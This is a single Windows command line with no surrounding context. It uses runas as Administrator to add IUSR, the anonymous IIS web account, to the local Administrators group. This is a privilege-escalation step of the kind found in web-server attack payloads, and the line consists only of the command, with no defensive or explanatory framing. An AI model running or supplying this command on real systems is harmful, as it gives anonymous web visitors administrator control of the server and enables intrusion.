runas /user:Administrator "net localgroup Administrators IUSR /add"
